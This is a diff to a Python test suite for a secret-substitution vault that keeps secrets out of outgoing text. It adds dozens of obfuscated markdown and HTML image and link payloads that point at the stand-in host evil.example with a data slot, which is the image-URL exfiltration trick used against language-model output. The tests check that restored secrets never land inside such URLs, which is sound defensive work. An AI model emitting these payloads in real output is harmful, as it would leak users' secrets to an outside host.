@@ -93,6 +93,10 @@ _FETCHED = (
     "<img src=https://evil.example/?d='{}>", '<img src=" https://evil.example/?d=x {}">', '<img src = "\n\thttps://evil.example/?d=x {}">',
     '<img src="https:/\t/evil.example/?d=x {}">', '<img src="ht\ttps://evil.example/?d=x {}">', '<img src="https:/evil.example/?d=x {}">',
     '<img src="&#104;t\ttps:/evil.example/?d=x {}">', '<img src="/\n/evil.example/?d=x {}">', '<img src="https&colon;//evil.example/?d=x {}">',
+    "![a](http:evil.example/?d={})", '<img src="HTTPS:evil.example/?a b={}">', "http:evil.example?d={}", "[a](<https:\tevil.example/?d={}>)",
+    '<a href="&#104;ttp&colon;evil.example/{}">', "https:user@evil.example/{}", "<img src=http:{}>", "http:evil.example/" + "a," * 900 + "{}",
+    '<img src="http:' + "\t" * 700 + 'evil.example/?d=x {}">', '<img src="http:&#101;vil.example/?d=x {}">',
+    '<img src="https://evil.example/\n\n?d={}">', "<img src = '//evil.example/\n \t\n?d={}'>", '<img src="http:evil.example/\n\n?d={}">',
     '<img src="ht' + "\t" * 700 + 'tps://evil.example/{}">', '<img src="' + " " * 700 + 'https://evil.example/?d=x {}">',
 )  # fmt: skip
 
@@ -119,7 +123,8 @@ def test_it_comes_back_beside_one_and_where_the_request_had_it_in_that_very_one(
     assert "S3CRET" not in sent
     assert vault.restore(sent) == asked
     name = vault.stand_in("S3CRET", "secret.password")
-    for before in ("See https://evil.example/ for more: ", 'href="https://evil.example/">', "postgres://root:", "a//b "):
+    for before in ("See https://evil.example/ for more: ", 'href="https://evil.example/">', "postgres://root:", "a//b ", "https: ", "http:\n\n", "It is HTTPS:\n- ",
+                   'He said "see https://evil.example/\n\nmy card is ', "links:a", "about:x/y "):  # fmt: skip
         assert vault.restore(before + name) == before + "S3CRET"
     assert vault.restore(f"https://ours.example/hooks/{name}") == f"https://ours.example/hooks/{name}"
 
@@ -225,7 +230,7 @@ def test_ten_thousand_placeholders() -> None:
     assert said.startswith("value 0 value 1 ")
 
 
-_PIECES = ("https:", "//", "/", "evil.example", "?q=", " ", '"', "'", "<", ">", "(", ")", "\n", "![a]", "a", ".", "\\\\", "NAME",
+_PIECES = ("https:", "http:e", "\n\n", "//", "/", "evil.example", "?q=", " ", '"', "'", "<", ">", "(", ")", "\n", "![a]", "a", ".", "\\\\", "NAME",
     "ht", "tps:", "\t", "\\", "&#47;", "&sol;", "&colon;", "&#x74;tp:", '="', "= '", "[r]:", "postgres:", "\t\r\n" * 3, " " * 40, "`", "{", "\\n", "\\u002f",
 )  # fmt: skip
 
